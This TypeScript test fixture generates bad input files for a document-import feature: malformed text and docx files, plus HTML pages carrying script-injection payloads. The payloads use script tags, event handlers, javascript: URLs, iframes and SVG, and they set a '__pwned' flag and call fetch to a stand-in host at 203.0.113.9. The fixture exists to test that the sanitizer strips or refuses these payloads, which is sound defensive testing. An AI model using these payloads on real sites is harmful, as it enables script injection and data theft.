// A seeded generator of bad input for the import: every kind of file an analyst's folder can
// hold that must not become an issue (or must become one only after sanitizing). Seeded, so a
// failure names a reproducible file; the same builders serve the unit suite and the e2e spec.
import { Document, HeadingLevel, Packer, Paragraph } from 'docx';
import { MAX_DIGEST_BYTES } from '../../../renderer/src/domain/import/read-digest-file';
import { mulberry32 as seededRandom } from '../../seeded-random';

export { seededRandom };

export interface BadFile {
  name: string;
  bytes: Uint8Array;
  /** The refusal code expected, or 'sanitized' for a page that imports with its payload removed. */
  expect: string;
}

const utf8 = (text: string) => new TextEncoder().encode(text);

/** Words a payload page carries besides its payload, so a sanitized import has something to show. */
export const PAYLOAD_ARTICLE = '区委书记主持召开会议，研究部署安全生产工作。';

/** The marker every script payload tries to set; a test fails if any ever does. */
export const PWNED_FLAG = '__pwned';

function page(title: string, body: string): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title></head><body><h1>${title}</h1>${body}<p>${PAYLOAD_ARTICLE}</p></body></html>`;
}

/** HTML pages carrying script, handler, URL, frame and SVG payloads. */
export function payloadPages(): BadFile[] {
  const set = `window.${PWNED_FLAG}=true;fetch('http://203.0.113.9/steal')`;
  const pages: [string, string][] = [
    ['script.html', `<script>${set}</script><script src="http://203.0.113.9/x.js"></script>`],
    ['handlers.html', `<div onclick="${set}" onmouseover="${set}"><p onload="${set}">点击</p></div><body onload="${set}">`],
    [
      'javascript-url.html',
      `<a href="javascript:${set}">链接</a><form action="javascript:${set}"><button formaction="javascript:${set}">提交</button></form>`,
    ],
    ['iframe.html', `<iframe src="http://203.0.113.9/frame"></iframe><iframe srcdoc="<script>${set}</script>"></iframe>`],
    ['svg.html', `<svg onload="${set}"><script>${set}</script><foreignObject><img src=x onerror="${set}"></foreignObject></svg>`],
    [
      'img-onerror.html',
      `<img src="x" onerror="${set}"><img src="http://203.0.113.9/pixel.gif"><video src="http://203.0.113.9/v.mp4" onerror="${set}"></video>`,
    ],
    [
      'meta-refresh.html',
      `<meta http-equiv="refresh" content="0;url=http://203.0.113.9/"><link rel="stylesheet" href="http://203.0.113.9/s.css"><style>@import url(http://203.0.113.9/i.css);</style>`,
    ],
  ];
  // Each page its own title: once sanitized, pages with the same words would be duplicates.
  return pages.map(([name, body], index) => ({
    name: `payload-${name}`,
    bytes: utf8(page(`安全生产会议第${index + 1}次`, body)),
    expect: 'sanitized',
  }));
}

/** A page nested `depth` elements deep with text at the bottom: refused when deeper than any real page. */
export function nestedPage(depth: number, expect: 'sanitized' | 'nestedTooDeep'): BadFile {
  const html = `<!doctype html><html><head><title>深层嵌套</title></head><body>${'<div><span>'.repeat(depth / 2)}<p>${PAYLOAD_ARTICLE}</p>${'</span></div>'.repeat(depth / 2)}</body></html>`;
  return { name: `nested-${depth}.html`, bytes: utf8(html), expect };
}

export async function goodDocx(): Promise<Uint8Array> {
  const document = new Document({
    sections: [
      {
        children: [
          new Paragraph({ text: '区委常委会召开会议', heading: HeadingLevel.HEADING_1 }),
          new Paragraph({ text: '发布日期：2024-03-04' }),
          new Paragraph({ text: '3月4日，区委书记王五主持召开区委常委会会议，传达学习全国两会精神。' }),
          new Paragraph({ text: '稳经济促增长', heading: HeadingLevel.HEADING_2 }),
          new Paragraph({ text: '会议强调，要抓好经济运行，确保完成全年目标任务。' }),
        ],
      },
    ],
  });
  return new Uint8Array(await Packer.toBuffer(document));
}

/** The non-HTML bad files, varied by the seed. */
export async function badFiles(seed: number): Promise<BadFile[]> {
  const random = seededRandom(seed);
  const bytes = (length: number, pick: () => number) => Uint8Array.from({ length }, pick);
  const binary = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...bytes(512, () => Math.floor(random() * 256))]);
  binary[20] = 0; // a NUL early on, as every PNG has
  const over = new Uint8Array(MAX_DIGEST_BYTES + 1 + Math.floor(random() * 1000)).fill(0x41);
  const good = utf8('区委常委会召开会议\n\n3月4日，区委书记王五主持召开区委常委会会议，传达学习全国两会精神。\n'.repeat(20));
  const invalidUtf8 = good.slice();
  for (let i = 0; i < 3; i++) invalidUtf8[Math.floor(random() * invalidUtf8.length)] = 0xff;
  // Shift_JIS hiragana: lead 0x82, trail 0x9F–0xF1.
  const shiftJis = bytes(400, () => 0).map((_, index) => (index % 2 === 0 ? 0x82 : 0x9f + Math.floor(random() * 0x53)));
  const docx = await goodDocx();
  const truncated = docx.slice(0, 200 + Math.floor(random() * (docx.length / 2)));
  return [
    { name: 'scan.txt', bytes: binary, expect: 'binary' },
    { name: 'empty.txt', bytes: new Uint8Array(), expect: 'empty' },
    { name: 'huge.txt', bytes: over, expect: 'tooLarge' },
    { name: 'damaged-utf8.txt', bytes: invalidUtf8, expect: 'invalidUtf8' },
    { name: 'shift-jis.txt', bytes: shiftJis, expect: 'unknownEncoding' },
    { name: 'truncated.docx', bytes: truncated, expect: 'damagedDocx' },
    { name: 'not-a-zip.docx', bytes: utf8('这不是一个 Word 文档'), expect: 'notDocx' },
    {
      name: 'empty-page.html',
      bytes: utf8('<html><head><script>window.__pwned=true</script></head><body></body></html>'),
      expect: 'noArticle',
    },
    { name: 'photo.jpg', bytes: binary, expect: 'unsupportedType' },
  ];
}
